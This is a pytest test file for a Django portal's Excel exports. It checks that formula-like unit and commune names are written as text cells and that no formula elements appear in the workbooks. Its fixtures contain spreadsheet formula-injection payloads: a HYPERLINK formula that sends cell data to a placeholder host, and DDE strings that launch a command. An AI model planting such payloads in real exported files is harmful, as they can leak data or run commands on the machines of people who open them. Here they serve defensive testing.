"""Every workbook the portal writes keeps user text as text: a unit named like a formula never becomes one."""

import io
import zipfile

import pytest
from django.urls import reverse
from freezegun import freeze_time
from openpyxl import load_workbook

from tests.factories import UnitFactory, kind
from units import importing

TODAY = "2026-02-20 09:00"
FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def sheet_cells(content: bytes) -> dict:
    """{text: data type} of every cell of every sheet, read from the file as Excel would."""
    wb = load_workbook(io.BytesIO(content))
    return {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}


def formula_elements(content: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sum(
            archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.fixture
def formula_units(kon_gang, year):
    return [UnitFactory(name=name, kind=kind("thon"), parent=kon_gang, households=10) for name in FORMULA_NAMES]


@freeze_time(TODAY)
def test_board_list_writes_formula_like_unit_names_as_text(client, kon_gang, formula_units, clerk):
    client.force_login(clerk)
    content = client.get(reverse("registrations:board_xlsx", args=[kon_gang.public_id]) + "?nam=2026").content
    cells = sheet_cells(content)
    assert {name: cells.get(name) for name in FORMULA_NAMES} == dict.fromkeys(FORMULA_NAMES, "s")
    assert formula_elements(content) == 0


@freeze_time(TODAY)
def test_commune_progress_writes_formula_like_unit_names_as_text(client, kon_gang, formula_units, steering_office):
    client.force_login(steering_office)
    content = client.get(reverse("registrations:progress_xlsx", args=[kon_gang.public_id]) + "?nam=2026").content
    cells = sheet_cells(content)
    assert {name: cells.get(name) for name in FORMULA_NAMES} == dict.fromkeys(FORMULA_NAMES, "s")
    assert formula_elements(content) == 0


@freeze_time(TODAY)
def test_province_progress_writes_formula_like_commune_names_as_text(client, province, year, province_chairman):
    commune = UnitFactory(name="=1+1", kind=kind("xa"), parent=province, households=None)
    UnitFactory(name="@cmd", kind=kind("thon"), parent=commune, households=10)
    client.force_login(province_chairman)
    content = client.get(reverse("registrations:progress_xlsx", args=[province.public_id]) + "?nam=2026").content
    cells = sheet_cells(content)
    # The province's sheet lists its communes (their villages are on the commune's own sheet).
    assert cells.get("=1+1") == "s"
    assert formula_elements(content) == 0


def test_import_template_writes_a_formula_like_commune_name_as_text(province):
    commune = UnitFactory(name="=cmd|'/C calc'!A0", kind=kind("xa"), parent=province, households=None)
    content = importing.build_template(commune)
    assert formula_elements(content) == 0
    assert load_workbook(io.BytesIO(content)).active["A1"].value == "DANH SÁCH ĐƠN VỊ THUỘC =CMD|'/C CALC'!A0"
